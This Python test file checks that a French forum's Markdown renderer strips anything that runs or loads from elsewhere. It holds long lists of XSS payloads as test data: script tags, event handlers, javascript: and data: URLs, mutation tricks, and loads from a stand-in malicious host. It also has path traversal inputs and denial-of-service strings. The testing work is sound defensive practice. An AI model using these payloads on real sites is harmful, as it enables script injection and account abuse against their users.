"""Hostile Markdown: whatever is typed, nothing runs and nothing is loaded from elsewhere."""

import re
import time
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from app.core.text import ALLOWED_TAGS, render_markdown

PREFIX = "/forum/pieces-jointes/"
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "loading"},
    "ol": {"start"},
    "span": {"class"},
}
OWN_IMAGE = re.compile(r"/forum/pieces-jointes/[\w-]+(\.[\w-]+)*(/[\w-]+(\.[\w-]+)*)*", re.ASCII)

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//mal.exemple.fr></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://mal.exemple.fr/x.png>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>clic</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//mal.exemple.fr/x.swf>",
    "<form action=/deconnexion><button>Gagner</button></form>",
    "<button formaction=javascript:alert(1)>clic",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//mal.exemple.fr/>",
    "<meta http-equiv=refresh content=0;url=//mal.exemple.fr>",
    "<link rel=stylesheet href=//mal.exemple.fr/x.css>",
    "<style>@import '//mal.exemple.fr/x.css'; *{display:none}</style>",
    "<p style='background:url(//mal.exemple.fr/x)'>x</p>",
    "<div class=app-mention onclick=alert(1)>x</div>",
    "<span class='app-mention' onmouseover=alert(1)>@Zoé</span>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='vbscript:x'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <svg/onload=alert(1)>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "%6aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript://exemple.fr/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://exemple.fr/x",
    "view-source:https://exemple.fr",
    "feed:javascript:alert(1)",
    "intent://exemple.fr#Intent;end",
    "ms-word:ofe|u|https://mal.exemple.fr/x.docx",
    'https://exemple.fr/"onmouseover="alert(1)',
    "https://exemple.fr/' onmouseover='alert(1)",
    "https://exemple.fr/><script>alert(1)</script>",
    "https://mal.exemple.fr/pixel.png",
    "//mal.exemple.fr/pixel.png",
    "/\\mal.exemple.fr/pixel.png",
    "/forum/pieces-jointes/../../deconnexion",
    "/forum/pieces-jointes/%2e%2e/%2e%2e/deconnexion",
    "/forum/pieces-jointes/..\\..\\deconnexion",
    "/forum/pieces-jointes//mal.exemple.fr",
    "/forum/pieces-jointes/3?suite=//mal.exemple.fr",
    "https://mal.exemple.fr/forum/pieces-jointes/3",
    "/annuaire/personnes/3?x=1",
]
SHAPES = [
    "[clic]({0})",
    "[clic](<{0}>)",
    '[clic]({0} "onmouseover=alert(1)")',
    "![suivi]({0})",
    "![suivi](<{0}>)",
    '![x"onerror="alert(1)]({0})',
    "[![suivi]({0})]({0})",
    "![a ![b]({0}) c]({0})",
    "<{0}>",
    "{0}",
    "[clic][r]\n\n[r]: {0}",
    "![suivi][r]\n\n[r]: <{0}> 'onload=alert(1)'",
    "[@Zoé]({0})",
    "**[clic]({0})**",
    "| [clic]({0}) |\n|-|\n| ![x]({0}) |",
]
INSERTED = [
    "[clic](javascript:alert(1)//https://exemple.fr)",
    "[a](https://exemple.fr)[b](javascript:alert(1))",
    "[clic](javascript:alert('1'\\))",
    "[@<img src=x onerror=alert(1)>](/annuaire/personnes/3)",
    '[@Zoé" onclick="alert(1)](/annuaire/personnes/3)',
    '[@Zoé](/annuaire/personnes/3 "onclick=alert(1)")',
    "![`<script>`](/forum/pieces-jointes/3)",
    '![" onload="alert(1)](/forum/pieces-jointes/3)',
    "![x](/forum/pieces-jointes/3 '\" onload=alert(1)')",
    "[![x](/forum/pieces-jointes/3)](javascript:alert(1))",
    "www.exemple.fr/<script>alert(1)</script>",
    "https://exemple.fr/<img/src=x onerror=alert(1)>",
    "mailto:a@exemple.fr?body=<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "*<script*>alert(1)",
    "\u2028<script>alert(1)</script>\u2029",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "1. <ol start='x' onclick=alert(1)>",
]
HOSTILE = RAW_HTML + INSERTED + [shape.format(where) for where in ADDRESSES for shape in SHAPES]


def assert_harmless(html: str) -> None:
    """Read the HTML as a browser would, and refuse what runs, loads or leads where it must not."""
    body = LexborHTMLParser(f"<!DOCTYPE html><body>{html}</body>").body
    assert body is not None
    for node in body.css("*"):
        if node == body:
            continue
        assert node.tag in ALLOWED_TAGS | {"img"}, node.html
        assert set(node.attributes) <= ATTRIBUTES.get(str(node.tag), set()), node.html
        assert (node.attributes.get("class") or "app-mention") == "app-mention"
    for link in body.css("a[href]"):
        assert_leads_somewhere_safe(link.attributes["href"] or "")
    for image in body.css("img"):
        assert OWN_IMAGE.fullmatch(image.attributes["src"] or ""), image.html
        assert image.attributes["alt"] is not None


def assert_leads_somewhere_safe(href: str) -> None:
    """A browser drops controls and spaces before it reads the scheme."""
    bare = re.sub(r"[\x00-\x20]", "", href)
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", bare)
    assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, href
    assert urlsplit(bare).scheme in {"", "http", "https", "mailto"}, href


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_leaves_nothing_that_runs_or_loads(source: str) -> None:
    assert_harmless(render_markdown(source, image_prefix=PREFIX))


def test_without_a_place_for_images_there_is_none() -> None:
    for source in [*HOSTILE, "![Le plan](/forum/pieces-jointes/3)"]:
        html = render_markdown(source)
        assert_harmless(html)
        assert "<img" not in html


@given(st.text())
def test_any_text_is_harmless(source: str) -> None:
    assert_harmless(render_markdown(source, image_prefix=PREFIX))


MARKS = [*'[!]()<>"`*_~|@&x: ', "'", "\\", "\n", "\n\n", "- ", "> ", "# ", "](", "![", "|-|-|\n"]
PIECES = st.sampled_from([*MARKS, *ADDRESSES, "<img src=x onerror=alert(1)>"])


@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_mixture_of_marks_and_attacks_is_harmless(source: str) -> None:
    assert_harmless(render_markdown(source, image_prefix=PREFIX))


@pytest.mark.parametrize(
    "source",
    [
        "> " * 200 + "x",
        ">" * 20_000,
        "- " * 200 + "x",
        "\n".join("  " * level + "- x" for level in range(200)),
        "[" * 5_000,
        "![" * 5_000 + "](x)" * 5_000,
        "*a **b " * 3_000,
        "`" * 20_000,
        "<" * 20_000,
        "a://" * 12_500,
        "http://a." * 5_500,
        " http://" * 6_000,
    ],
)
def test_deep_or_endless_marks_are_drawn_quickly(source: str) -> None:
    start = time.process_time()
    html = render_markdown(source, image_prefix=PREFIX)
    # Milliseconds as measured; what grows faster than the text takes minutes.
    assert time.process_time() - start < 5
    assert_harmless(html)
    assert html.count("<blockquote") <= 20


def test_an_image_kept_by_the_service_is_drawn_with_its_description() -> None:
    html = render_markdown("![Le *plan*](/forum/pieces-jointes/3)", image_prefix=PREFIX)
    image = LexborHTMLParser(html).css_first("img")
    assert image.attributes == {
        "src": "/forum/pieces-jointes/3",
        "alt": "Le plan",
        "loading": "lazy",
    }


@pytest.mark.parametrize(
    "source", ["![Le *plan*](https://exemple.fr/plan.png)", "![Le plan](/autre/3)"]
)
def test_of_another_image_only_the_description_is_left(source: str) -> None:
    assert render_markdown(source, image_prefix=PREFIX) == "<p>Le plan</p>\n"


def test_a_link_to_a_person_called_by_name_is_a_mention() -> None:
    html = render_markdown("Merci [@Élodie Marchand](/annuaire/personnes/3) !")
    assert '<span class="app-mention">@Élodie Marchand</span>' in html
    assert "<a" not in html


@pytest.mark.parametrize(
    "source",
    [
        "[Élodie](/annuaire/personnes/3)",
        "[@Élodie](/annuaire/structures/3)",
        "[@Élodie](https://exemple.fr/annuaire/personnes/3)",
        "[@Élodie](/annuaire/personnes/3/modifier)",
    ],
)
def test_any_other_link_is_no_mention(source: str) -> None:
    html = render_markdown(source)
    assert "app-mention" not in html
    assert "<a" in html
